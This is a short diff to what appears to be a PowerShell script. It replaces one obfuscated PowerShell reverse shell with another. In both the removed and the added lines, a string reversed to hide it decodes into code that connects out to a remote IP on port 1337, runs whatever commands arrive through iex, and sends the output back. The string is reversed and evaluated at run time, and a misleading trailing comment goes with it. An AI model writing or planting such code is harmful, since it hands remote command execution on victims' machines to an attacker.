@@ -1,3 +1,3 @@
-$malza='
-)(esolC.tneilc$;})(hsulF.maerts$;)htgneL.etybdnes$,0,etybdnes$(etirW.maerts$;)2kcabdnes$(setyBteG.)IICSA::]gnidocne.txet[( = etybdnes$;'' >'' + htaP.)dwp( + '' SP'' + kcabdnes$ = 2kcabdnes$;) gnirtS-tuO | 1&>2 atad$ xei( = kcabdnes$;)i$ ,0,setyb$(gnirtSteG.)gnidocnEIICSA.txeT.metsyS emaNepyT- tcejbO-weN( = atad$;{)0 en- ))htgneL.setyb$ ,0 ,setyb$(daeR.maerts$ = i$((elihw;}0{%|53556..0 = setyb$]][etyb[;)(maertSteG.tneilc$ = maerts$;)7331,''71.311.0.302''(tneilCPCT.stekcoS.teN.metsyS tcejbO-weN = tneilc$
-1v 6221 gifnoc #'; iex (-join $malza[-1..-($malza.Length)])
+$oenlc='
+)(esolC.tneilc$;})(hsulF.maerts$;)htgneL.etybdnes$,0,etybdnes$(etirW.maerts$;)2kcabdnes$(setyBteG.)IICSA::]gnidocne.txet[( = etybdnes$;'' >'' + htaP.)dwp( + '' SP'' + kcabdnes$ = 2kcabdnes$;) gnirtS-tuO | 1&>2 atad$ xei( = kcabdnes$;)i$ ,0,setyb$(gnirtSteG.)gnidocnEIICSA.txeT.metsyS emaNepyT- tcejbO-weN( = atad$;{)0 en- ))htgneL.setyb$ ,0 ,setyb$(daeR.maerts$ = i$((elihw;}0{%|53556..0 = setyb$]][etyb[;)(maertSteG.tneilc$ = maerts$;)7331,''002.311.0.302''(tneilCPCT.stekcoS.teN.metsyS tcejbO-weN = tneilc$
+1v 3669 ksat #'.ToCharArray(); [array]::Reverse($oenlc); iex (-join $oenlc)
